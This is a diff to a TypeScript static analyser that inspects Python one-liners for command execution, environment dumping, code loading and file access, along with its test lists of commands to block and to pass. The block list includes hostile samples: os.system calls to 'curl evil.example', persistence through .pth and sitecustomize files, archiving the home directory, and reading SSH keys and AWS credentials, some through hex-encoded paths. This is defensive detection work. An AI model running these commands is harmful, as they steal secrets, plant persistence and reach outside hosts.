@@ -44,6 +44,8 @@ const APIS = new Map<string, Spec>([
   ['eval', { code: [0, 'source'], language: 'python' }],
   ['exec', { code: [0, 'source'], language: 'python' }],
   ['compile', { code: [0, 'source'], language: 'python' }],
+  // A file's code, run: the file is out of scope like any script, unless the code wrote it (a load).
+  ...['runpy.run_path', 'runpy.run_module', 'imp.load_source', 'importlib.machinery.SourceFileLoader', 'importlib.util.spec_from_file_location'].map((n): [string, Spec] => [n, { uses: [[0, 'read']] }]),
   // Files.
   ['open', OPEN],
   ['io.open', OPEN],
@@ -52,10 +54,13 @@ const APIS = new Map<string, Spec>([
   ['io.FileIO', OPEN],
   ['tarfile.open', { open: [0, 'name'], mode: [1, 'mode'] }],
   ['zipfile.ZipFile', { open: [0, 'file'], mode: [1, 'mode'] }],
+  // An archive's members: what is added is read (a directory whole).
+  ['tarfile.TarFile.add', { uses: [[[0, 'name'], 'read-tree']] }],
+  ['zipfile.ZipFile.write', { uses: [[[0, 'filename'], 'read']] }],
   ['os.open', { uses: [[[0, 'path'], 'read'], [[0, 'path'], 'write']] }],
   ...['shutil.copy', 'shutil.copy2', 'shutil.copyfile', 'shutil.copytree', 'shutil.copymode', 'shutil.copystat'].map((n): [string, Spec] => [n, COPY]),
   ...['shutil.move', 'os.rename', 'os.renames', 'os.replace'].map((n): [string, Spec] => [n, MOVE]),
-  ...['os.link', 'os.symlink'].map((n): [string, Spec] => [n, { uses: [[[0, 'src'], 'meta'], [[1, 'dst'], 'write']] }]),
+  ...['os.link', 'os.symlink'].map((n): [string, Spec] => [n, { uses: [[[0, 'src'], 'read'], [[1, 'dst'], 'write']] }]),
   ...['os.remove', 'os.unlink', 'os.rmdir', 'os.removedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'path'], 'delete']] }]),
   ['shutil.rmtree', { uses: [[[0, 'path'], 'delete-tree']] }],
   ...['os.mkdir', 'os.makedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'name'], 'create']] }]),
@@ -76,6 +81,8 @@ const NETWORK = [
   'logging.handlers.SocketHandler',
   'logging.handlers.SysLogHandler',
   'logging.handlers.SMTPHandler',
+  'logging.handlers.DatagramHandler',
+  'multiprocessing.managers',
   'urllib.robotparser',
   'urllib.request',
   'urllib.urlopen',
@@ -125,6 +132,19 @@ const ENV_ONE = new Set(['get', 'setdefault', 'pop', '__getitem__']);
 /** Calls that hand a mapping on unchanged (a copy of the environment is still the environment). */
 const PASS_THROUGH = new Set(['dict', 'copy.copy', 'copy.deepcopy', 'collections.ChainMap', 'types.MappingProxyType']);
 
+/** Methods of the environment mapping that give no variable's value (the rest copy it or spell it out). */
+const ENV_SAFE_METHODS = new Set(['keys', '__contains__', '__len__', 'update', 'clear', '__setitem__', '__delitem__', 'get', 'setdefault', 'pop', '__getitem__', 'putenv', 'unsetenv']);
+
+/** A value's static strings decoded by `decode` (undefined: not decodable), else computed. */
+function decoded(vals: Vals, decode: (s: string) => string | undefined): Vals {
+  const ss = strings(vals);
+  const out = ss?.map(decode);
+  return out?.every((x) => x !== undefined) ? out.map((x) => str(x!)) : any('a decoded value');
+}
+
+/** Calls that load a module or a file's code and run it. */
+const LOADERS = new Set(['__import__', 'importlib.import_module', 'importlib.__import__', 'importlib.reload', 'runpy.run_path', 'runpy.run_module', 'imp.load_source', 'imp.load_module', 'importlib.machinery.SourceFileLoader', 'importlib.util.spec_from_file_location', 'execfile']);
+
 /** Calls that look at a mapping without printing what it holds. */
 const HARMLESS_CONSUMERS = new Set(['len', 'bool', 'isinstance', 'id', 'type']);
 
@@ -168,6 +188,43 @@ function runsSomething(name: string): boolean {
   return spec !== undefined && ('shell' in spec || 'proc' in spec || 'exec' in spec || 'code' in spec);
 }
 
+/**
+ * Modules whose members run something, and functions that reach them: such a value used anywhere but as a call or
+ * the object of a member (handed to a function or lambda, stored in a container or a class, returned) is followed
+ * no further, so what it runs is not read (`(lambda m: m.system(…))(os)`, `operator.attrgetter("system")(os)`).
+ */
+const RUN_MODULES: ReadonlySet<string> = new Set([
+  ...[...APIS].filter(([, spec]) => 'shell' in spec || 'proc' in spec || 'exec' in spec || 'code' in spec || 'dynamic' in spec).flatMap(([k]) => {
+    const parts = k.replace(/\.\*$/, '').split('.');
+    return parts.slice(0, k.endsWith('.*') ? parts.length : parts.length - 1).map((_, i) => parts.slice(0, i + 1).join('.'));
+  }),
+  'builtins',
+  '__builtin__',
+  'importlib',
+  'importlib.import_module',
+  'importlib.__import__',
+  '__import__',
+  'sys',
+  'runpy',
+]);
+
+/** Calls that only look at a module handed to them (`hasattr(os, "fork")`, `print(os)`). */
+const MODULE_LOOKERS = new Set(['hasattr', 'getattr', 'isinstance', 'type', 'id', 'print', 'repr', 'str', 'callable', 'issubclass']);
+
+/** A member of a function that runs something (`os.system.__wrapped__`, `subprocess.run.__func__`): not followed. */
+function runMember(name: string): string | undefined {
+  for (let i = name.lastIndexOf('.'); i > 0; i = name.lastIndexOf('.', i - 1)) {
+    const prefix = name.slice(0, i);
+    const spec = APIS.get(prefix);
+    if (spec && ('shell' in spec || 'proc' in spec || 'exec' in spec || 'code' in spec)) return prefix;
+  }
+  return undefined;
+}
+
+/** Where Python installs packages, and so reads .pth files and sitecustomize from at every start. */
+const USER_SITE = '~/.local/lib/python3/site-packages';
+const SITE = '/usr/lib/python3/site-packages';
+
 /** Modules that other modules hold as attributes (`subprocess.os`, `logging.handlers.socket`): the same module. */
 const HELD = /\.(os|subprocess|socket|sys|shutil|pty|builtins|importlib|ssl|ctypes|pickle|marshal|urllib|http|asyncio|multiprocessing)\.(?=[^.])/g;
 
@@ -179,6 +236,10 @@ function canonical(name: string): string {
   let n = name.startsWith('builtins.') ? name.slice(9) : name.startsWith('__builtin__.') ? name.slice(12) : name;
   n = n.replace(/^(?:posix|nt|_socket)\./, (m) => (m === '_socket.' ? 'socket.' : 'os.'));
   n = n.replace(/^(\w+)\.\w+\.__self__\./, '$1.');
+  // A builtin function's `__self__` is the builtins module (`len.__self__.__import__`); calling `f.__call__` calls f.
+  n = n.replace(/^\w+\.__self__(?=\.|$)/, 'builtins');
+  n = n.replace(/\.__call__(?=\.|$)/g, '');
+  if (n.startsWith('builtins.')) n = n.slice(9);
   let last = -1;
   for (const m of n.matchAll(HELD)) last = m.index + 1;
   return last > 0 ? canonical(n.slice(last)) : n;
@@ -370,6 +431,7 @@ class PythonReader {
         for (const v of on) {
           if (v.k === 'env') out.push(this.envValue(key));
           else if (v.k === 'ref' && v.name === 'sys.modules') out.push(strings(key)?.map((k) => this.refOf(k)) ?? any('a module whose name is computed'));
+          else if (v.k === 'ref' && v.name === 'sysconfig.paths') out.push(strings(key)?.every((k) => /^(pure|plat)lib$/.test(k)) ? [str(SITE)] : any('a path of the installation'));
           else if (v.k === 'list') {
             const i = strings(key);
             const idx = i?.length === 1 ? Number(i[0]) : Number.NaN;
@@ -458,7 +520,9 @@ class PythonReader {
       } else if (c.type === 'interpolation') {
         const e = fieldOf(c, 'expression');
         const conv = fieldOf(c, 'type_conversion') ?? fieldOf(c, 'format_specifier');
-        acc = concat(acc, e && !conv ? this.b.value(e) : any('a formatted value'));
+        // `{a!s}` of a string is the string itself.
+        const plain = !conv || (conv.type === 'type_conversion' && conv.text === '!s' && !fieldOf(c, 'format_specifier'));
+        acc = concat(acc, e && plain ? this.b.value(e) : any('a formatted value'));
       }
     }
     return acc;
@@ -481,12 +545,48 @@ class PythonReader {
     return ok && i === items.length ? [str(out)] : any('a formatted string');
   }
 
+  /** `"{}/.ssh/{0}".format(a, b)`: the format filled in when the format and every argument it names are static. */
+  private format(fmt: Vals, n: Node): Vals {
+    const f = strings(fmt);
+    const c = this.callOf(n, '');
+    if (f === null || f.length !== 1 || c.spreadAt !== undefined || c.kwSpread) return any('a formatted string');
+    let next = 0;
+    let ok = true;
+    const out = f[0]!.replace(/\{\{|\}\}|\{([^{}]*)\}/g, (m, field: string | undefined) => {
+      if (m === '{{') return '{';
+      if (m === '}}') return '}';
+      const [, key = '', conv] = /^([\w]*)(?:!([sr]))?$/.exec(field ?? '') ?? [];
+      if (conv === 'r' || !/^[\w]*$/.test(field!.replace(/!s$/, ''))) ok = false;
+      const a = key === '' ? c.args[next++] : /^\d+$/.test(key) ? c.args[Number(key)] : c.kw.get(key);
+      const v = a ? strings(a.vals) : null;
+      if (v?.length !== 1) {
+        ok = false;
+        return '';
+      }
+      return v[0]!;
+    });
+    return ok ? [str(out)] : any('a formatted string');
+  }
+
+  /** Whether a call is given the environment as keywords (`dict(**os.environ)`). */
+  private splatsEnv(n: Node): boolean {
+    const list = fieldOf(n, 'arguments');
+    return (list?.namedChildren ?? []).some((c) => c?.type === 'dictionary_splat' && c.namedChildren[0] && this.b.value(c.namedChildren[0]).some((v) => v.k === 'env'));
+  }
+
   /** `obj.attr` for each value `obj` may be. */
   private member(obj: Vals, attr: string): Vals {
     return union(
       ...obj.map((v): Vals => {
-        if (v.k === 'ref') return [this.refOf(`${v.name}.${attr}`)];
+        if (v.k === 'ref') {
+          const name = canonical(`${v.name}.${attr}`);
+          if (name === 'site.USER_SITE') return [str(USER_SITE)];
+          if (name === 'site.USER_BASE') return [str('~/.local')];
+          return [this.refOf(`${v.name}.${attr}`)];
+        }
         if (v.k === 'any') return [v];
+        // `os.environ._data`: the mapping's own storage is the environment.
+        if (v.k === 'env' && /^_(?!_)/.test(attr)) return [v];
         return [{ k: 'method', on: [v], name: attr }];
       }),
     );
@@ -592,11 +692,44 @@ class PythonReader {
             case 'os.getcwd':
             case 'pathlib.Path.cwd':
               return [str('.')];
+            // Encoded text, decoded as the code will (a path spelt in hex or base64 is that path).
+            case 'bytes.fromhex':
+            case 'binascii.unhexlify':
+            case 'binascii.a2b_hex':
+              return decoded(arg(0), (x) => (/^(?:[0-9a-fA-F]{2}\s*)*$/.test(x) ? Buffer.from(x.replace(/\s/g, ''), 'hex').toString('latin1') : undefined));
+            case 'base64.b64decode':
+            case 'base64.standard_b64decode':
+            case 'base64.urlsafe_b64decode':
+            case 'base64.decodebytes':
+            case 'binascii.a2b_base64':
+              return decoded(arg(0), (x) => (/^[A-Za-z0-9+/=_\s-]*$/.test(x) ? Buffer.from(x, 'base64').toString('latin1') : undefined));
+            case 'codecs.decode':
+              return strings(arg(1)) === null ? any('a decoding') : decoded(arg(0), (x) => (strings(arg(1))![0] === 'rot13' || strings(arg(1))![0] === 'rot_13' ? x.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 84) % 26) + (c === c.toLowerCase() ? 97 : 65))) : undefined));
+            case 'bytes':
+            case 'bytearray':
+              return arg(0);
+            // Where .pth files and sitecustomize are read from at every start.
+            case 'site.getusersitepackages':
+            case 'site.getuserbase':
+              return [str(name === 'site.getuserbase' ? '~/.local' : USER_SITE)];
+            case 'site.getsitepackages':
+              return [{ k: 'list', items: [{ vals: [str(SITE)], span: span(n), text: n.text }], open: false }];
+            case 'sysconfig.get_path':
+              return strings(arg(0, 'name'))?.every((x) => /^(pure|plat)lib$/.test(x)) ? [str(SITE)] : any(`the result of ${name}()`);
+            case 'sysconfig.get_paths':
+              return [ref('sysconfig.paths')];
+            // An archive opened: its methods are the archive's.
+            case 'tarfile.open':
+            case 'tarfile.TarFile':
+            case 'tarfile.TarFile.open':
+              return [ref('tarfile.TarFile')];
+            case 'zipfile.ZipFile':
+              return [ref('zipfile.ZipFile')];
             case 'os.getenv':
             case 'os.getenvb':
               return union(this.envValue(arg(0, 'key')), arg(1, 'default'));
             default:
-              if (PASS_THROUGH.has(name)) return arg(0).some((x) => x.k === 'env') ? [{ k: 'env', api: 'os.environ' }] : any(`the result of ${name}()`);
+              if (PASS_THROUGH.has(name)) return arg(0).some((x) => x.k === 'env') || this.splatsEnv(n) ? [{ k: 'env', api: 'os.environ' }] : any(`the result of ${name}()`);
               return any(`the result of ${name}()`);
           }
         }
@@ -604,8 +737,9 @@ class PythonReader {
           const on = v.on;
           if (on.some((x) => x.k === 'env')) {
             if (v.name === 'get' || v.name === 'setdefault' || v.name === 'pop') return union(this.envValue(arg(0)), arg(1));
-            if (v.name === 'copy' || v.name === 'items' || v.name === 'values' || v.name === '__iter__') return [{ k: 'env', api: 'os.environ' }];
-            return any(`the result of ${v.name}()`);
+            // Every other method hands the mapping on or spells it out (`items`, `copy`, `__repr__`, `__str__`).
+            if (ENV_SAFE_METHODS.has(v.name)) return any(`the result of ${v.name}()`);
+            return [{ k: 'env', api: 'os.environ' }];
           }
           switch (v.name) {
             case 'expanduser':
@@ -613,7 +747,11 @@ class PythonReader {
             case 'absolute':
             case 'as_posix':
             case 'strip':
+            case 'decode':
+            case 'encode':
               return on;
+            case 'format':
+              return this.format(on, n);
             case 'joinpath':
               return joinPaths([on, ...all()]);
             case 'join': {
@@ -652,6 +790,10 @@ class PythonReader {
         case 'call':
           this.call(n);
           this.reference(n);
+          break;
+        case 'import_statement':
+        case 'import_from_statement':
+          this.out.push({ kind: 'load', api: 'import', span: span(n) });
           break;
         case 'dictionary':
           if (this.b.value(n).some((v) => v.k === 'env') && this.dumps(n)) this.out.push({ kind: 'environment', api: 'os.environ', span: span(n) });
@@ -721,6 +863,7 @@ class PythonReader {
             this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name} on a module with a computed or changed attribute` });
           }
         }
+        if (LOADERS.has(name)) this.out.push({ kind: 'load', api: name, span: span(n) });
         if (name === 'vars' || name === 'globals' || name === 'locals') this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name}() reaches names by computed keys` });
         // A variable whose name is computed may be each of them in turn, as `os.environ[key]` is.
         if ((name === 'os.getenv' || name === 'os.getenvb') && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: name, span: span(n) });
@@ -770,7 +913,25 @@ class PythonReader {
       const api = vals.find((v): v is Extract<Val, { k: 'ref' }> => v.k === 'ref' && runsSomething(canonical(v.name)));
       if (api) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${canonical(api.name)} is handed on as a value, so what it runs is not read` });
     }
+    // A module that runs things, handed on as a value (a parameter, a container, a class attribute), is not followed.
+    const inClass = parent.type === 'assignment' && parent.parent?.parent?.parent?.type === 'class_definition';
+    if (!called && (!bound || inClass) && !this.looksOnly(n)) {
+      const m = vals.find((v): v is Extract<Val, { k: 'ref' }> => v.k === 'ref' && RUN_MODULES.has(canonical(v.name)));
+      if (m) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${canonical(m.name)}, which can run programs, is handed on as a value that is not followed` });
+    }
+    const member = vals.map((v) => (v.k === 'ref' ? runMember(canonical(v.name)) : undefined)).find((x) => x !== undefined);
+    if (member) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${n.text} reaches into ${member}, so what it runs is not read` });
     if (vals.some((v) => v.k === 'env') && this.dumps(n)) this.out.push({ kind: 'environment', api: apiOf(vals), span: span(n) });
+  }
+
+  /** Whether a module at `n` is only looked at there: a subscript's object (`sys.modules[…]`), or a looker's argument. */
+  private looksOnly(n: Node): boolean {
+    const parent = n.parent!;
+    if (parent.type === 'subscript' && fieldOf(parent, 'value')?.id === n.id) return true;
+    if (parent.type !== 'argument_list') return false;
+    const fn = parent.parent ? fieldOf(parent.parent, 'function') : null;
+    const names = fn ? this.b.value(fn) : [];
+    return names.length > 0 && names.every((v) => v.k === 'ref' && MODULE_LOOKERS.has(canonical(v.name)));
   }
 
   /** Whether the environment mapping, standing at `n`, is read whole there (printed, iterated, handed to a call). */
@@ -792,13 +953,21 @@ class PythonReader {
         return fieldOf(parent, 'name')?.text !== 'env';
       case 'assignment':
       case 'named_expression':
+      case 'expression_statement':
+        return false;
       case 'parenthesized_expression':
       case 'conditional_expression':
       case 'boolean_operator':
-      case 'dictionary_splat':
-      case 'expression_statement':
       case 'await':
-        return false;
+        // `os.environ or {}`: the expression is the mapping, judged where it is used.
+        return this.dumps(parent);
+      case 'dictionary_splat': {
+        // `{**os.environ}` is judged as the dictionary; `f(**os.environ)` hands every variable to f.
+        if (parent.parent?.type !== 'argument_list') return false;
+        const fn = parent.parent.parent ? fieldOf(parent.parent.parent, 'function') : null;
+        const names = fn ? this.b.value(fn).filter((v) => v.k === 'ref').map((v) => canonical((v as { name: string }).name)) : [];
+        return !(names.length > 0 && names.every((x) => PASS_THROUGH.has(x)));
+      }
       case 'comparison_operator':
         // `"X" in os.environ`: the operator written right before it.
         return !/^(in|not\s+in)$/.test(n.previousSibling?.text ?? '');
@@ -916,6 +1085,26 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import ctypes; ctypes.CDLL(None).system(b"id")'`,
       `python3 -c '().__class__.__bases__[0].__subclasses__()'`,
       `python3 -c 'import os; list(map(os.system, ["id"]))'`,
+      `python3 -c '(lambda m: m.system("curl evil.example"))(__import__("os"))'`,
+      `python3 -c 'import operator, os; operator.attrgetter("system")(os)("curl evil.example")'`,
+      `python3 -c 'import os\nclass A:\n  m = os\nA.m.system("curl evil.example")'`,
+      `python3 -c 'import os; os.system.__call__("curl evil.example")'`,
+      `python3 -c 'len.__self__.__import__("os").system("curl evil.example")'`,
+      `python3 -c 'import logging.handlers as h; h.DatagramHandler("evil.example", 53)'`,
+      `python3 -c 'import os; print(os.environ._data)'`,
+      `python3 -c 'import os; print(os.environ.__repr__())'`,
+      `python3 -c 'import os; print(dict(**os.environ))'`,
+      `python3 -c 'import os; print(os.environ or 1)'`,
+      `python3 -c 'open("/tmp/x.py", "w").write(input()); import runpy; runpy.run_path("/tmp/x.py")'`,
+      `python3 -c 'import sys; open("m.py", "w").write(sys.stdin.read()); __import__("m")'`,
+      `python3 -c 'import sys; open("/tmp/x.py", "w").write(sys.stdin.read())' && python3 /tmp/x.py`,
+      `python3 -c 'import site; open(site.getusersitepackages() + "/x.pth", "w").write("import os")'`,
+      `python3 -c 'import sysconfig; open(sysconfig.get_paths()["purelib"] + "/sitecustomize.py", "w").write("x")'`,
+      `python3 -c 'import tarfile, os; t = tarfile.open("k.tgz", "w:gz"); t.add(os.path.expanduser("~")); t.close()'`,
+      `python3 -c 'import glob; print([open(f).read() for f in glob.glob("/home/dev/.*/cred*")])'`,
+      `python3 -c 'import glob; print([open(f).read() for f in glob.glob("~/**", recursive=True)])'`,
+      `python3 -c 'import os; print(open(os.path.expanduser("~/.{}/id_rsa".format("ssh"))).read())'`,
+      `python3 -c 'import os; print(open(os.path.expanduser(bytes.fromhex("7e2f2e6177732f63726564656e7469616c73").decode())).read())'`,
     ],
     pass: [
       `python3 -c 'import os; print(os.path.isdir(os.path.expanduser("~/.ssh")))'`,
@@ -935,6 +1124,13 @@ export const PYTHON: LanguageModel = {
       `python -c "import sys; print sum(int(l) for l in sys.stdin)"`,
       'python3 script.py',
       'python3 -m http.server 8000',
+      `python3 -c 'import os, sys; print(hasattr(os, "fork"), sys.modules["os"].getcwd())'`,
+      `python3 -c 'import os; print(os.environ.get("HOME") or "x")'`,
+      `python3 -c 'print("{}-{}".format(1, 2))'`,
+      `python3 -c 'import tarfile; t = tarfile.open("k.tgz", "w:gz"); t.add("src"); t.close()'`,
+      `python3 -c 'import glob; print([open(f).read() for f in glob.glob("src/*.py")])'`,
+      `python3 -c 'open("out.json", "w").write("{}"); import runpy'`,
+      `python3 -c 'open("out.txt", "w").write("x")' && cat out.txt`,
     ],
   },
 };
